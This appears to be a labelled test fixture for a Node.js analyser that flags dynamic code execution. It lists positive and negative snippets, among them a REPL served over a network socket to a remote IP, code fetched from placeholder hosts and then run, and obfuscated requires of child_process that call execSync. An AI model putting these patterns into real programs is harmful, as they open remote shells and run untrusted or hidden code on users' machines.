//@ pos Function of stdin
Function(require("fs").readFileSync(0, "utf8"))();
//@ pos vm of stdin
const vm = require("vm");
vm.runInThisContext(require("fs").readFileSync(0, "utf8"));
//@ pos eval of a downloaded body
let body = "";
process.stdin.on("data", (c) => (body += c));
process.stdin.on("end", () => eval(body));
//@ pos new Function of a parameter
function build(src) {
  return new Function(src);
}
//@ pos indirect eval of a variable
const code = process.argv[2];
(0, eval)(code);
//@ pos require of a name from the environment
require(process.env.PLUGIN);
//@ pos import of a name from JSON
const cfg = JSON.parse(process.argv[2]);
import(cfg.module);
//@ neg eval of a constant
eval("1 + 1");
//@ neg Function of constants
new Function("a", "b", "return a + b");
//@ neg require of a constant
require("path");
//@ neg require of a folded name
const name = "pa" + "th";
require(name);
//@ pos eval handed to Function.prototype.call
const code = require("fs").readFileSync(0, "utf8");
Function.prototype.call.call(eval, null, code);
//@ pos eval taken out of an array
const e = [eval][0];
e(process.argv[2]);
//@ neg a method called eval of the program's own object
const calc = { eval: (s) => s.length };
console.log(calc.eval("abc"));
//@ pos a REPL on a network socket
const s = require("net").connect(4444, "203.0.113.5");
require("repl").start({ input: s, output: s });
//@ pos a downloaded scratch file required
require("/tmp/m.js");
//@ pos a scratch module imported
import("/dev/shm/x.mjs");
//@ neg a module of the program's own, relative
require("./lib/util.js");
//@ pos a name given a constant, then stdin
let code = "1 + 1";
code = require("fs").readFileSync(0, "utf8");
eval(code);
//@ pos a parameter that shares its name with a constant
const src = "1";
function run(src) {
  return eval(src);
}
run(require("fs").readFileSync(0, "utf8"));
//@ pos a for-of variable that shares its name with a constant
const line = "1";
for (const line of require("fs").readFileSync(0, "utf8").split("\n")) eval(line);
//@ neg a constant in its own block, not shadowed where it runs
function f(x) {
  return x * 2;
}
const expr = "f(21)";
console.log(eval(expr));
//@ pos a module named by a helper of the program's own
const dec = (s) => String.fromCharCode(...[...s].map((c) => c.charCodeAt(0) - 1));
require(dec('dijme`qspdftt')).execSync('id');
//@ pos a module named by a generator spread and joined
function* parts() { yield 'child_'; yield 'process'; }
require([...parts()].join(''));
//@ pos a module named by an obfuscator's string-array accessor
var _0x1 = ['Y2hpbGRfcHJvY2Vzcw=='];
var _0x2 = function (i) { return Buffer['from'](_0x1[i - 0x0], 'base64')['toString'](); };
require(_0x2('0x0'));
//@ pos a data: URL imported
import('data:text/javascript;base64,' + 'ZXhwb3J0IGRlZmF1bHQgMQ==');
//@ pos downloaded source compiled as a module
const Module = module.constructor;
fetch('https://example.com/x.js').then((r) => r.text()).then((src) => new Module('/tmp/x.js')._compile(src, '/tmp/x.js'));
//@ pos the inspector protocol evaluates code
const inspector = require('inspector');
const session = new inspector.Session();
session.connect();
session.post('Runtime.evaluate', { expression: process.argv[2] });
//@ pos require handed to a function built from a string
const GF = Object.getPrototypeOf(function* () {}).constructor;
GF('r', "yield r('child_process').execSync('id')")(require).next();
//@ pos require handed to a helper
function load(req, name) { return req(name); }
load(require, 'child_process');
//@ neg a file next to the program, found with path.join(__dirname)
const path = require('path');
require(path.join(__dirname, 'lib', 'util.js'));
//@ neg a package resolved with require.resolve
require(require.resolve('./lib/util.js'));
//@ pos the inspector protocol method handed through a wrapper's parameter
const insp = require('inspector');
const ses = new insp.Session();
ses.connect();
function send(method, params) { ses.post(method, params); }
send('Runtime.evaluate', { expression: process.argv[2] });
//@ neg the inspector's profiler through a wrapper's parameter
const insp = require('inspector');
const ses = new insp.Session();
ses.connect();
function send(method, params) { ses.post(method, params); }
send('Profiler.enable', {});
send('Profiler.start', {});
//@ neg the inspector used to profile
const inspector = require('inspector');
const s = new inspector.Session();
s.connect();
s.post('Profiler.enable', () => s.post('Profiler.start'));
//@ neg a method called _compile with a constant
const tpl = { _compile(x) { return x; } };
tpl._compile('hello {{name}}');
//@ neg a module's require called normally
module.exports = { util: require('./util') };
//@ pos cluster workers from a downloaded file
const cluster = require('cluster');
const os = require('os');
const path = require('path');
cluster.setupPrimary({ exec: path.join(os.tmpdir(), `w-${Date.now()}.js`) });
cluster.fork();
//@ pos cluster workers from a scratch file
const cluster = require('cluster');
cluster.setupMaster({ exec: '/tmp/w.js', silent: true });
//@ neg cluster workers from the program's own files
const cluster = require('cluster');
const path = require('path');
cluster.setupPrimary({ exec: path.join(__dirname, 'worker.js') });
cluster.setupPrimary({ exec: 'worker.js', args: ['--port', '8080'] });
cluster.fork();
//@ pos a worker started from a data: URL of JavaScript
const { Worker } = require('worker_threads');
fetch('https://x.example/p.js').then((r) => r.text()).then((code) => {
  new Worker(new URL('data:text/javascript,' + encodeURIComponent(code)));
});
//@ pos eval taken from globalThis's property descriptor
const run = Object.getOwnPropertyDescriptor(globalThis, 'ev' + 'al').value;
run(process.argv[2]);
//@ neg a data: URL of an image
const img = 'data:image/png;base64,' + Buffer.from([1, 2, 3]).toString('base64');
console.log(img);
//@ neg a property descriptor of an ordinary object
const d = Object.getOwnPropertyDescriptor({ a: 1 }, 'a').value;
console.log(d);
//@ pos Function reached as the constructor of a built-in method
const F = [].filter.constructor;
F(process.argv[2])();
//@ pos Function reached as the constructor of Math.max
Math.max.constructor(process.argv[2])();
//@ neg the constructor of a length
console.log([].length.constructor(5));
//@ pos a worker run from a file in the scratch directory
const { Worker } = require('worker_threads');
new Worker(require('os').tmpdir() + '/w.js');
//@ neg workers run from the program's own files
const { Worker } = require('worker_threads');
const path = require('path');
new Worker(path.join(__dirname, 'w.js'));
new Worker('./worker.js');
new Worker(__filename, { workerData: 1 });
//@ pos Module.runMain of a file put in process.argv[1]
const Module = require('module');
process.argv[1] = '/tmp/next.js';
Module.runMain();
//@ pos node:test run of a file in a scratch directory
const { run } = require('node:test');
run({ files: ['/tmp/check.test.js'] });
//@ pos node:test run of a downloaded file the analysis cannot name
const fs = require('fs');
const { run } = require('node:test');
fetch(process.argv[2]).then(async (r) => {
  const file = process.argv[3];
  fs.writeFileSync(file, await r.text());
  run({ files: [file] });
});
//@ neg node:test run of the project's own test files
const path = require('path');
const { run } = require('node:test');
run({ files: [path.join(__dirname, 'a.test.js'), 'test/b.test.js'] });
//@ neg node:test run of listed files in a program that does not download
const fs = require('fs');
const { run } = require('node:test');
const files = fs.readdirSync('test').map((f) => 'test/' + f);
run({ files });
//@ pos the Function constructor handed to a promise chain
fetch(process.argv[2]).then((r) => r.text()).then(Function).then((f) => f());
//@ pos vm.runInThisContext handed on as a callback
const vm = require('vm');
require('fs').readFile(process.argv[2], 'utf8', (err, src) => [src].forEach(vm.runInThisContext));
//@ neg Function as a type, not handed on
const f = () => 1;
console.log(typeof Function, f instanceof Function, Function.prototype.toString.call(f));
//@ pos node:test run of a downloaded file, files as a shorthand property
const fs = require('fs');
const { run } = require('node:test');
fetch(process.argv[2]).then(async (r) => {
  const files = [process.argv[3]];
  fs.writeFileSync(files[0], await r.text());
  run({ files });
});
//@ pos Reflect.apply of Function on code read at run time
const code = require('fs').readFileSync(0, 'utf8');
Reflect.apply(Function, null, ['args', code])(process.argv);
//@ pos Reflect.construct of Function with its arguments in a name
const args = [process.argv[2]];
Reflect.construct(Function, args)();
//@ neg Reflect.apply of Function on a constant, or of Math.max on input
Reflect.apply(Function, null, ['return 1'])();
Reflect.apply(Math.max, null, [process.argv[2], 3]);
//@ pos eval handed to an alias of Function.prototype.call as its this
const code = require("fs").readFileSync(0, "utf8");
const c = Function.prototype.call;
c.call(eval, null, code);
//@ neg import() of the program's own plugins by file URL (as require(path.join(dir, name)))
const path = require('path');
const { pathToFileURL } = require('url');
const dir = path.join(__dirname, 'plugins');
for (const name of require('fs').readdirSync(dir)) import(pathToFileURL(path.join(dir, name)).href);
//@ pos import() of what a helper of the program decodes
const dec = (s) => Buffer.from(s, 'base64').toString();
import(dec(process.argv[2]));
//@ pos import() of a member of parsed input
const cfg = JSON.parse(process.argv[2]);
import(cfg.module);
//@ pos the inspector opened on every interface
require('inspector').open(9229, '0.0.0.0');
//@ neg the inspector on its default host
require('inspector').open(9229);
//@ pos module.registerHooks in a program that downloads
fetch('https://203.0.113.9/m.js').then((r) => r.text()).then((source) => {
  require('module').registerHooks({ load: (url, ctx, next) => ({ format: 'commonjs', source, shortCircuit: true }) });
});
//@ neg a REPL with its own eval function
require('repl').start({ prompt: '> ', eval: (cmd, ctx, file, cb) => cb(null, cmd.length) });
//@ pos the inspector's post promisified and bound, then Runtime.evaluate
const inspector = require('inspector');
const session = new inspector.Session();
session.connect();
const send = require('util').promisify(session.post.bind(session));
send('Runtime.evaluate', { expression: process.argv[2] });
//@ neg the inspector's post promisified for a CPU profile
const inspector = require('inspector');
const session = new inspector.Session();
session.connect();
const send = require('util').promisify(session.post.bind(session));
send('Profiler.start');
//@ neg Runtime.evaluate sent to a browser, no inspector session
require('chrome-remote-interface')({ port: 9222 }).then((c) => c.send('Runtime.evaluate', { expression: 'document.title' }));
//@ pos a downloaded .pnpmfile.cjs in a program that runs pnpm
const fs = require('fs');
const { spawnSync } = require('child_process');
fetch('https://x.example/h').then((r) => r.text()).then((t) => { fs.writeFileSync('.pnpmfile.cjs', t); spawnSync('pnpm', ['install']); });
//@ neg a downloaded file of another name in a program that runs pnpm
const fs = require('fs');
const { spawnSync } = require('child_process');
fetch('https://x.example/h').then((r) => r.text()).then((t) => { fs.writeFileSync('notes.txt', t); spawnSync('pnpm', ['install']); });
//@ neg a module named in a Headers table
const h = new Headers({ "x-lib": "path" });
console.log(require(h.get("x-lib")).join("a", "b"));
//@ neg a module named by a Map's one entry
const m = new Map();
m.set("lib", "path");
console.log(require(m.get("lib")).join("a", "b"));
//@ pos a Map's key set twice: either module
const m2 = new Map();
m2.set("lib", "path");
m2.set("lib", "fs");
require(m2.get("lib"));
//@ neg a SourceTextModule of a constant with options
const vm = require('vm');
const SRC = 'export const x = 1;';
new vm.SourceTextModule(SRC, { context: vm.createContext({}), identifier: 'x.mjs' });
//@ neg a vm.Script of a constant with a file name
const vm = require('vm');
new vm.Script('1 + 1', { filename: 'sum.js' }).runInThisContext();
//@ pos a SourceTextModule of downloaded text with options
const vm = require('vm');
fetch('https://x.example.net/m.mjs').then((r) => r.text()).then((t) => new vm.SourceTextModule(t, { identifier: 'm' }));
//@ pos a downloaded file imported by its file URL's href
const fs = require("fs");
const os = require("os");
const path = require("path");
const { pathToFileURL } = require("url");
(async () => {
  const res = await fetch("https://plugins.example.dev/p/index.mjs");
  const file = path.join(fs.mkdtempSync(path.join(os.tmpdir(), "p-")), "index.mjs");
  fs.writeFileSync(file, await res.text());
  await import(pathToFileURL(file).href);
})();
//@ pos a downloaded file imported by its file URL
const fsp = require("fs/promises");
const os = require("os");
const path = require("path");
const { pathToFileURL } = require("node:url");
(async () => {
  const bytes = Buffer.from(await (await fetch("https://m.example.io/v/1.mjs")).arrayBuffer());
  const script = path.join(await fsp.mkdtemp(path.join(os.tmpdir(), "m-")), "1.mjs");
  await fsp.writeFile(script, bytes);
  await import(pathToFileURL(script));
})();
//@ neg the project's config file imported by its file URL, nothing downloaded
const path = require("path");
const { pathToFileURL } = require("url");
const cfgPath = path.resolve(process.cwd(), "app.config.mjs");
import(pathToFileURL(cfgPath).href).then((m) => console.log(m.default));
//@ neg an ordinary module name whose accents NFD strips, known
const u = require("útil".normalize("NFD").replace(/\p{M}/gu, ""));
